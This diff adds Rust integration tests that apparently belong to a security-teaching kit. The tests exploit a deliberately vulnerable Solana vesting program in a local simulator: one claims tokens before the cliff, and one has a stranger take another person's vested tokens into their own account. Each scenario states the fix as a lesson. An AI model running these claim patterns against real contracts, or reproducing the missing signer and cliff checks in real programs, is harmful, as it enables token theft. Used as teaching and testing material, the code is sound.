@@ -0,0 +1,220 @@
+// Integration tests for VESTING-VULNERABLE program
+//
+// WARNING: These tests demonstrate intentional security vulnerabilities for educational purposes.
+// These exploits show what can happen when proper security checks are missing.
+//
+// HOW TO RUN THESE TESTS:
+// From the project root directory:
+//   cd programs/vesting/vesting-vulnerable
+//   cargo test-sbf
+//
+// Or to run a specific test:
+//   cargo test-sbf -- test_name
+//
+// Or with output logging:
+//   cargo test-sbf -- --nocapture
+
+mod utils;
+
+use litesvm::types::TransactionResult;
+use solana_sdk::{native_token::LAMPORTS_PER_SOL, pubkey::Pubkey, signature::{Keypair, Signer}};
+use soteria_test_kit::{run_exploit, ExploitInfo, ExploitScenario, Severity};
+use utils::*;
+
+// EXPLOIT: V001 - Missing cliff check
+// Demonstrates: Beneficiary claims tokens before the cliff has passed
+struct ClaimBeforeCliff;
+
+const CLIFF: i64 = VESTING_DURATION / 2;
+
+struct ClaimBeforeCliffState {
+    scenario: VestingScenario,
+    schedule: Pubkey,
+}
+
+impl ExploitScenario for ClaimBeforeCliff {
+    type State = ClaimBeforeCliffState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V001",
+            title: "Early Claim - Missing Cliff Check",
+            severity: Severity::High,
+            lesson: "Return zero vested tokens whenever now < cliff_ts",
+        }
+    }
+
+    fn setup(&self) -> ClaimBeforeCliffState {
+        println!("This test demonstrates how a vesting formula that ignores the cliff lets a");
+        println!("beneficiary walk away with tokens during the period meant to unlock nothing.");
+        println!();
+
+        let mut scenario = setup_vesting_scenario();
+        let now = current_timestamp(&scenario.svm);
+
+        let ix = build_create_schedule_ix(
+            &scenario.creator.pubkey(),
+            &scenario.beneficiary.pubkey(),
+            &scenario.mint,
+            1,
+            GRANT_AMOUNT,
+            now,
+            now + CLIFF,
+            now + VESTING_DURATION,
+            true,
+        );
+        send_ix(&mut scenario.svm, ix, &scenario.creator).expect("Schedule creation should succeed");
+        let (schedule, _) = derive_schedule_pda(&scenario.creator.pubkey(), &scenario.beneficiary.pubkey(), 1);
+        println!("[Setup] {} tokens over {}s, cliff at +{}s", GRANT_AMOUNT / ONE_TOKEN, VESTING_DURATION, CLIFF);
+
+        advance_time(&mut scenario.svm, VESTING_DURATION / 4);
+        println!("[Setup] {}s have passed - still {}s before the cliff", VESTING_DURATION / 4, CLIFF - VESTING_DURATION / 4);
+
+        ClaimBeforeCliffState { scenario, schedule }
+    }
+
+    fn exploit(&self, state: &mut ClaimBeforeCliffState) -> TransactionResult {
+        let ClaimBeforeCliffState { scenario, schedule } = state;
+
+        println!();
+        println!("[EXPLOIT] Beneficiary claims before the cliff");
+        println!("[EXPLOIT] In secure version, this should FAIL with NothingToClaim");
+
+        // EXPLOIT: Claim during the cliff period
+        let ix = build_claim_ix(&scenario.beneficiary.pubkey(), schedule, &scenario.mint, &scenario.beneficiary_ata);
+        send_ix(&mut scenario.svm, ix, &scenario.beneficiary)
+    }
+
+    fn assert_impact(&self, state: &mut ClaimBeforeCliffState) -> u64 {
+        let ClaimBeforeCliffState { scenario, schedule } = state;
+
+        println!();
+        println!("[RESULT] Claim attempt: SUCCESS");
+
+        let received = token_balance(&scenario.svm, &scenario.beneficiary_ata);
+        assert_eq!(received, GRANT_AMOUNT / 4);
+        println!("[IMPACT] Beneficiary received {} tokens before the cliff", received / ONE_TOKEN);
+        println!("[IMPACT] Should have received: 0");
+
+        println!("[RESULT] Creator revokes after the beneficiary leaves early");
+        let ix = build_revoke_ix(&scenario.creator.pubkey(), schedule, &scenario.mint, &scenario.beneficiary_ata);
+        send_ix(&mut scenario.svm, ix, &scenario.creator).expect("Revoke should succeed");
+        assert_eq!(token_balance(&scenario.svm, &scenario.beneficiary_ata), received);
+        println!("[IMPACT] Revoking cannot claw back the {} tokens already paid out", received / ONE_TOKEN);
+
+        received
+    }
+}
+
+#[test]
+fn test_exploit_claim_before_cliff() {
+    run_exploit(&ClaimBeforeCliff);
+}
+
+// EXPLOIT: V002 - Beneficiary substitution
+// Demonstrates: A stranger claims someone else's vested tokens into their own account
+struct BeneficiarySubstitution;
+
+struct SubstitutionState {
+    scenario: VestingScenario,
+    schedule: Pubkey,
+    attacker: Keypair,
+    attacker_ata: Pubkey,
+}
+
+impl ExploitScenario for BeneficiarySubstitution {
+    type State = SubstitutionState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V002",
+            title: "Beneficiary Substitution - Claimer Not Checked",
+            severity: Severity::Critical,
+            lesson: "Require the beneficiary to sign and pay only into an account they own",
+        }
+    }
+
+    fn setup(&self) -> SubstitutionState {
+        println!("This test demonstrates how a claim that never ties the signer or the");
+        println!("destination to the schedule's beneficiary lets anyone take vested tokens.");
+        println!();
+
+        let mut scenario = setup_vesting_scenario();
+        let schedule = create_default_schedule(&mut scenario, 1, false);
+        println!("[Setup] {} tokens vesting to {}", GRANT_AMOUNT / ONE_TOKEN, scenario.beneficiary.pubkey());
+
+        advance_time(&mut scenario.svm, VESTING_DURATION);
+        println!("[Setup] Schedule fully vested, beneficiary has not claimed yet");
+
+        let attacker = create_funded_account(&mut scenario.svm, LAMPORTS_PER_SOL);
+        let attacker_ata = create_token_account(&mut scenario.svm, &attacker, &scenario.mint, &attacker.pubkey());
+        println!("[Setup] Attacker: {}", attacker.pubkey());
+
+        SubstitutionState { scenario, schedule, attacker, attacker_ata }
+    }
+
+    fn exploit(&self, state: &mut SubstitutionState) -> TransactionResult {
+        let SubstitutionState { scenario, schedule, attacker, attacker_ata } = state;
+
+        println!();
+        println!("[EXPLOIT] Attacker signs claim_vested on the victim's schedule");
+        println!("[EXPLOIT] Destination: attacker's own token account");
+        println!("[EXPLOIT] In secure version, this should FAIL with Unauthorized");
+
+        // EXPLOIT: Claim as a stranger into the attacker's account
+        let ix = build_claim_ix(&attacker.pubkey(), schedule, &scenario.mint, attacker_ata);
+        send_ix(&mut scenario.svm, ix, attacker)
+    }
+
+    fn assert_impact(&self, state: &mut SubstitutionState) -> u64 {
+        let SubstitutionState { scenario, schedule, attacker_ata, .. } = state;
+
+        println!();
+        println!("[RESULT] Claim attempt: SUCCESS");
+
+        let stolen = token_balance(&scenario.svm, attacker_ata);
+        assert_eq!(stolen, GRANT_AMOUNT);
+        println!("[IMPACT] Attacker received {} tokens", stolen / ONE_TOKEN);
+
+        // The real beneficiary now has nothing left to claim
+        let ix = build_claim_ix(&scenario.beneficiary.pubkey(), schedule, &scenario.mint, &scenario.beneficiary_ata);
+        assert!(send_ix(&mut scenario.svm, ix, &scenario.beneficiary).is_err(), "Vault should be empty");
+        assert_eq!(token_balance(&scenario.svm, &scenario.beneficiary_ata), 0);
+        assert_eq!(get_schedule_amounts(&scenario.svm, schedule), (GRANT_AMOUNT, GRANT_AMOUNT));
+        println!("[IMPACT] Beneficiary's claim fails - schedule shows the grant as fully claimed");
+
+        stolen
+    }
+}
+
+#[test]
+fn test_exploit_beneficiary_substitution() {
+    run_exploit(&BeneficiarySubstitution);
+}
+
+#[test]
+fn test_all_basic_operations_work() {
+    // Sanity check: the happy path still works in the vulnerable version
+    println!("\n[TEST START] test_all_basic_operations_work - Normal vesting lifecycle");
+
+    let mut scenario = setup_vesting_scenario();
+    let schedule = create_default_schedule(&mut scenario, 1, true);
+    println!("[Setup] Default schedule created");
+
+    advance_time(&mut scenario.svm, VESTING_DURATION / 2);
+    let ix = build_claim_ix(&scenario.beneficiary.pubkey(), &schedule, &scenario.mint, &scenario.beneficiary_ata);
+    send_ix(&mut scenario.svm, ix, &scenario.beneficiary).expect("Claim should succeed");
+    assert_eq!(token_balance(&scenario.svm, &scenario.beneficiary_ata), GRANT_AMOUNT / 2);
+    println!("[Success] Beneficiary claimed half the grant halfway through");
+
+    let creator_balance_before = token_balance(&scenario.svm, &scenario.creator_ata);
+    let ix = build_revoke_ix(&scenario.creator.pubkey(), &schedule, &scenario.mint, &scenario.beneficiary_ata);
+    send_ix(&mut scenario.svm, ix, &scenario.creator).expect("Revoke should succeed");
+    assert_eq!(
+        token_balance(&scenario.svm, &scenario.creator_ata),
+        creator_balance_before + GRANT_AMOUNT / 2
+    );
+    println!("[Success] Revoke returned the unvested half to the creator");
+
+    println!("[TEST END] test_all_basic_operations_work");
+}